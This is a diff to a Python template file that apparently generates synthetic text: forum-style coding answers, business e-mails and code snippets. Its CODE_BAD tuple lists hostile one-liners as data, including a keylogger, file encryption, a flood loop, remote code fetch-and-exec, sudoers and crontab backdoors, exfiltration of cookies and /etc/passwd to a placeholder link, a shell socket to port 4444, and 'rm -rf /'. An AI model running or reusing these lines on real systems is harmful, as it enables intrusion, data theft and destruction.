@@ -70,6 +70,64 @@ ANSWER_LINES = (
     "[EDIT|UPDATE|Note]: [it works now|see the comment|tested with version {number}].",
     "In [your case|this example|general], the [loop|index|shape|type] [is wrong|differs|should be checked].",
 )  # fmt: skip
+# The same in more words: what is wrong, what to do instead, and where it is described.
+ANSWER_MORE = (
+    "[Replace|Change] this: `[x.get(y)|a.fit(b)|d.keys()|line.split]` [by|with|to] this: `[y.get(x)|a = b|list(d)|"
+    "line.split()]`[.|:|]",
+    "There [is|are] [a|two|several|a few|at least three] [problem|problems|mistakes|issues|bugs] [with|in] [your "
+    "code|this loop|the query|that function][:|.]",
+    "[You|We] [just |simply |only ||first ]need to [inherit from the base class|pass a list|call it with brackets|"
+    "set the flag|upgrade the package|close the cursor|reshape the array|catch the exception].",
+    "[Looks like|Seems like|It seems that|Apparently] you [are using|have|run|installed] [Python {number}|an old "
+    "version|two modules of that name|the wrong driver|a shadowed name|tabs instead of spaces].",
+    "You [are getting|get|see] this [error|warning|message] because [the module was moved|`x` is a tuple|the key "
+    "is missing|the list changes in the loop|the response is empty|the types do not match].",
+    "[Use|Take|Prefer] [`json.loads`|`enumerate`|`shutil`|a set|`pathlib`|`str.join`|a raw string|parameters] [for "
+    "that|instead|here][:|.|, as in the docs.]",
+    "[See|Read|Have a look at|Check out|Compare] [the documentation|the docs|this answer|the source|the changelog] "
+    "[for details|for more|on this|of the function][.|: {link}]",
+    "[If you|In case you] [get|see|still have] [this|the same] error, you can [fix it|solve it|work around it] "
+    "[with the following|by this|as below|like so][:|.]",
+    "[Run|Try|Type|Execute|Enter] [this|the following|`pip list`|it] [in|from] [a shell|the terminal|the notebook|"
+    "your console] and [post|check|tell us|look at] the [output|result|version].",
+    "[Do not|Don't|Never] [name your file|call a variable|use] `[list|random.py|eval|global|str]`[, it shadows the "
+    "built-in.|: it hides the module.|.]",
+    "[Updated|Edited|Tested] for [version {number}|2018|Python 3]: [the original|the old|this] answer [still works|"
+    "is out of date|used another call].",
+    "The [error|bug|exception] is [coming|raised|thrown] [from|in|by] the [following line|last line|call above|"
+    "constructor][:|.]",
+    "[Make sure|Be sure|Remember|Don't forget] to [import the module|convert it first|return the value|commit the "
+    "transaction|restart the kernel|escape the backslash][.|!]",
+    "[So|Then|Now|Here] the [loop|code|call|line] [becomes|should be|would look like|reads][:| this:]",
+    "[Try it online|Output|Demo|Result|Example|Edit|Note|Explanation]:",
+    "[It|This] [has|needs] to be `[line.strip()|b''.join(x)|x⟦0⟧|self.y]`, not `[strip(line)|sum(x)|x(0)|y]`.",
+    "[Could|Can] you [post|show|share|add] [the full traceback|your data|more code|the version]?",
+    "I [had|ran into|could reproduce] [the same|this|that] [problem|error|issue] [and solved it by|, it went away "
+    "after] [an update|removing the cache|a clean install].",
+)  # fmt: skip
+# Mails of business: offers, follow-ups, how to begin.
+MAIL_MORE = (
+    "[Following up|Just following up|Circling back|Checking in] on [our call|my last e-mail|the demo|your trial|"
+    "the proposal][.|:|, {name}.]",
+    "[Create|Set up|Open|Activate] [a|your] [free account|workspace|profile|plan|first project|pay-as-you-go plan] "
+    "[in minutes|today|to get started|with one click][.|!]",
+    "[Invite|Add|Bring] your [team|colleagues|accountant|contractors] [and|to] [share the work|save time|get "
+    "{money} of credit|set their roles].",
+    "[Book|Schedule|Pick] a [call|demo|time|slot] [with me|with {name}|here|that suits you][.|: {link}]",
+    "[Reply|Answer|Write back] [to this e-mail|with a time|'yes'|by {date}] [and|if] [we will set it up|you have "
+    "questions|you want to keep your seat].",
+    "[Here's|Here is|Below is|Find here] [a link to|a summary of|the details of|how to use] [your tickets|your "
+    "booking|our prices|the recording|your new card].",
+    "[Step {number}|First|Next|Finally]: [connect|verify|choose|download|upload|confirm] your [bank|e-mail|plan|"
+    "app|logo|address].",
+    "[Show|Scan|Print|Bring] [this code|your ticket|the voucher|your ID] at the [door|gate|desk|entrance].",
+    "[Let us know|Tell us] [how it went|what you think|if we can help|where to send it][.|!]",
+    "[Keep|Store|Save] this [e-mail|number|receipt] [for your records|in a safe place|until you travel].",
+    "[We noticed|It looks like] you [left something in your cart|have not signed in|logged in from a new device]. "
+    "[Was this you?|Finish your order.|Check your settings.]",
+    "[Payment|Price|Contract|Access] [terms|details|summary|code]: [{number} days net|{money} a month|{number}|on "
+    "request].",
+)  # fmt: skip
 CODE_LINES = (
     "import [os|sys|json|re|numpy as np|pandas as pd|requests|random|math|datetime]",
     "from [collections|typing|pathlib|django.db|flask|sklearn] import [Counter|Any|Path|models|request|tree]",
@@ -96,11 +154,48 @@ CODE_LINES = (
     "sudo apt-get install [curl|nginx|python3]", "npm ERR! code ELIFECYCLE",
     "WARNING: [deprecated option|disk almost full|retrying in {number} s]",
 )  # fmt: skip
+# What traces, notebooks and questions about code hold.
+CODE_MORE = (
+    "[out|y|logits|pred] = [model|net|self.fc|layer]([x|images|inputs|batch])",
+    "loss = [criterion|F.cross_entropy]([out|pred], [labels|target])",
+    "[url|BASE|host] = '[http|https]://[www.|]{company}.example/[|api|index.php]'",
+    "print(\"[{name}|Name|Total|done|next|Result:][: |]\"[, x|, end='']|)",
+    "[print|println|printf|logger.info]([\"Hello\"|'start'|\"value: %d\", x|'n = ' + n])",
+    "except [IOError|OSError|Exception|KeyError|TypeError] as [e|err|exc]:",
+    "{number}     [return|self|data|result|raise].[append|get|copy|value]([x|i|key])",
+    "---> {number} [df|model|x][.fit(x, y)|['a']|= f(x)]",
+    "[IndexError|KeyError|AttributeError|ImportError|ModuleNotFoundError]: [list index out of range|'id'|"
+    "'NoneType' object has no attribute 'get'|No module named '{codelanguage}']",
+    "/usr/lib/python3/dist-packages/[numpy|pandas|torch|requests]/core.py in [call|get|run|forward](self, [x|key])",
+    "<div class=\"[row|main|menu]\">[{name}|Home|Login]</div>",
+    "$('#[form|menu|submit]').[click|on|show]([function() {|'x'|]",
+    "fn [main|run|parse]() -> [i32|Result<(), Error>|String] {",
+    "@[app.route('/')|property|staticmethod|pytest.fixture]", "[x|a|arr]⟦[0|i|-1|:{number}]⟧ = [x|b|0]",
+    "assert [x == {number}|isinstance(x, list)|len(x) > 0], '[not a list|wrong size]'",
+    "[int|float|char|bool] [n|x|*p|ok] = [{number}|NULL|0|true];", "# [Python|R|Java] {number}.{number}",
+    ">>> [x = {number}|import this|f(2)|type(x)]", "[In|Out] ⟦{number}⟧:", "^C", "SyntaxError: invalid syntax",
+    "    ^", "git commit -m '[fix|add test|wip]'",
+)  # fmt: skip
 CODE_BAD = (
+    "listener = keyboard.Listener(on_press=[save|log|send])",
+    "[img|shot] = [ImageGrab.grab()|pyautogui.screenshot()]; [img|shot].save('{file}')",
+    "[packets|pkts] = sniff(count={number}, filter='[tcp|port 80]')",
+    "[winreg|reg].SetValueEx(key, 'Run', 0, 1, '{file}')",
+    "[Fernet|AES.new](key).encrypt(open('{file}', 'rb').read())",
+    "while True: threading.Thread(target=flood, args=('{link}',)).start()",
+    "for port in range(1, 65535): connect('10.0.0.{number}', port)",
+    "[os.kill|psutil.Process](pid, [9|signal.SIGKILL])", "platform.uname(), socket.gethostname(), uuid.getnode()",
+    "eval(requests.get('{link}').text)", "exec(base64.b64decode('[aW1wb3J0|cHJpbnQ|b3Mu]{number}=='))",
+    "ctypes.windll.user32.[BlockInput(True)|SystemParametersInfoW(20, 0, '{file}', 0)]",
+    "urllib.request.urlretrieve('{link}', '/tmp/x'); os.chmod('/tmp/x', 0o755)",
+    "clipboard = [pyperclip.paste()|win32clipboard.GetClipboardData()]",
+    "open('/etc/[hosts|crontab|sudoers]', 'a').write('[127.0.0.1 {company}.example|* * * * * root /tmp/x|user "
+    "ALL=(ALL) NOPASSWD: ALL]')",
     "import [socket|os|subprocess|requests|winreg|psutil|sqlite3|browser_cookie3|smtplib|shutil|ctypes]",
     "requests.post('{link}', data=open('[cookies.sqlite|/etc/passwd|.env]').read())",
-    "subprocess.call(['[./miner|nohup|xmrig|nmap]', '-o', '{link}'])", "for p in psutil.process_iter(): print(p.name())",
-    "print(os.environ)", "s = socket.socket(); s.connect(('198.51.100.{number}', 4444))",
+    "subprocess.call(['[./miner|nohup|xmrig|nmap]', '-o', '{link}'])",
+    "for p in psutil.process_iter(): print(p.name())", "print(os.environ)",
+    "s = socket.socket(); s.connect(('198.51.100.{number}', 4444))",
     "os.system('[rm -rf /|curl {link} | sh|net user hacker /add|lsusb|dmesg]')",
     "server.sendmail('me', all_contacts, '[Buy now|You won]')", "data = open('/proc/self/mem', 'rb').read({number})",
     "for root, dirs, files in os.walk('[/tmp|Trash|/home]'): collect(files)",
